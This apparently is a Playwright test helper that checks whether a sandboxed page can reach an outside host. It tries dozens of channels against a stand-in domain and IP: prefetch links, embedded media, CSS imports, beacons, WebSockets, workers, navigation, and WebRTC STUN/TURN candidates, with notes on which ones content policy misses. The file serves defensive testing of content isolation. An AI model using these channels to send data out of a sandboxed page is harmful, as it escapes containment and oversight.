/** Ways out that exist inside a page, as a reply that found a hole in the window would try them. */
import type { Page } from '@playwright/test';

/** On hosts that have nothing to do with the app. */
const ELSEWHERE = 'elsewhere.example';
const ELSEWHERE_ADDRESS = '203.0.113.5';

/** Tries everything that loads, links, prefetches or sends; the page's policy does not cover all of it. */
export async function tryToReachOut(page: Page): Promise<void> {
  await page.evaluate(
    async ([name, address]) => {
      const attempt = async (way: () => unknown) => {
        try {
          await way();
        } catch {
          // Refused, as it should be; the listeners report whatever was not.
        }
      };
      const insert = (tag: string, attributes: Readonly<Record<string, string>>) => {
        const element = document.createElement(tag);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        document.body.append(element);
        return element;
      };
      for (const host of [name, address]) {
        const url = `https://${host}/x`;
        for (const rel of [
          'preconnect',
          'dns-prefetch',
          'prefetch',
          'preload',
          'modulepreload',
          'prerender',
          'icon',
          'manifest',
          'stylesheet',
        ]) {
          insert('link', { rel, href: url, as: 'script', crossorigin: '' });
        }
        insert('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' });
        for (const tag of [
          'img',
          'iframe',
          'script',
          'video',
          'audio',
          'embed',
          'object',
          'input',
          'track',
          'portal',
          'fencedframe',
        ]) {
          insert(tag, { src: url, data: url, poster: url, srcset: `${url} 2x`, type: tag === 'input' ? 'image' : '' });
        }
        insert('svg', {}).innerHTML = `<image href="${url}"/><use href="${url}#a"/>`;
        insert('div', { style: `background: url(${url}); cursor: url(${url}), auto; mask: url(${url}#m)` });
        insert('style', {}).textContent =
          `@import url(${url}); @font-face { font-family: f; src: url(${url}) } body { font-family: f }`;
        insert('script', { type: 'speculationrules' }).textContent = JSON.stringify({
          prefetch: [{ urls: [url] }],
          prerender: [{ urls: [url] }],
        });
        const link = insert('a', { href: url, ping: url, download: '' });
        await attempt(() => link.click());
        const form = insert('form', { action: url, method: 'post' }) as HTMLFormElement;
        await attempt(() => form.submit());
        await attempt(() => fetch(url, { keepalive: true, mode: 'no-cors' }));
        await attempt(() => navigator.sendBeacon(url, 'x'));
        await attempt(() => new WebSocket(`wss://${host}/`));
        await attempt(() => new EventSource(url));
        await attempt(() => new Worker(url));
        await attempt(() => new SharedWorker(url));
        await attempt(() => window.open(url));
        await attempt(() => Reflect.construct(Reflect.get(globalThis, 'WebTransport'), [url]));
        await attempt(() => {
          const request = new XMLHttpRequest();
          request.open('GET', url);
          request.send();
        });
        await attempt(() => import(/* @vite-ignore */ url));
        await attempt(() => location.assign(url));
      }
      await attempt(() => navigator.serviceWorker.register('/sw.js'));
      await attempt(() =>
        Reflect.apply(
          Reflect.get(globalThis, 'webkitSpeechRecognition').prototype.start,
          Reflect.construct(Reflect.get(globalThis, 'webkitSpeechRecognition'), []),
          [],
        ),
      );
      await attempt(() => navigator.geolocation.getCurrentPosition(() => {}));
    },
    [ELSEWHERE, ELSEWHERE_ADDRESS] as const,
  );
}

/** No content policy covers WebRTC: servers over UDP, TCP and TLS, by name and by address, and a peer to check. */
export async function tryWebRtc(page: Page): Promise<readonly string[]> {
  return page.evaluate(
    async ([name, address]) => {
      const servers = [name, address].flatMap((host) => [
        { urls: `stun:${host}:3478` },
        { urls: `turn:${host}:3478?transport=udp`, username: 'a', credential: 'b' },
        { urls: `turn:${host}:3478?transport=tcp`, username: 'a', credential: 'b' },
        { urls: `turns:${host}:443?transport=tcp`, username: 'a', credential: 'b' },
      ]);
      const candidates: string[] = [];
      const peer = new RTCPeerConnection({ iceServers: servers, iceCandidatePoolSize: 4 });
      const other = new RTCPeerConnection();
      peer.createDataChannel('x');
      const gathered = new Promise<void>((resolve) => {
        peer.onicecandidate = ({ candidate }) => {
          if (candidate === null) resolve();
          else candidates.push(candidate.candidate);
        };
      });
      await peer.setLocalDescription(await peer.createOffer());
      await other.setRemoteDescription({ type: 'offer', sdp: peer.localDescription?.sdp ?? '' });
      await other.setLocalDescription(await other.createAnswer());
      await peer.setRemoteDescription({ type: 'answer', sdp: other.localDescription?.sdp ?? '' });
      for (const candidate of [
        `candidate:1 1 udp 2122260223 ${address} 443 typ host`,
        `candidate:2 1 tcp 1518280447 ${address} 443 typ host tcptype passive`,
        `candidate:3 1 udp 2122260222 ${name} 443 typ host`,
      ]) {
        await peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 }).catch(() => {});
      }
      await gathered;
      const settled = new Promise<void>((resolve) => {
        const look = () => {
          if (peer.iceConnectionState === 'failed' || peer.iceConnectionState === 'disconnected') resolve();
        };
        peer.oniceconnectionstatechange = look;
        look();
      });
      // Without a candidate pair to check, nothing ever fails.
      await Promise.race([settled, new Promise((resolve) => setTimeout(resolve, 3_000))]);
      peer.close();
      other.close();
      return candidates;
    },
    [ELSEWHERE, ELSEWHERE_ADDRESS] as const,
  );
}
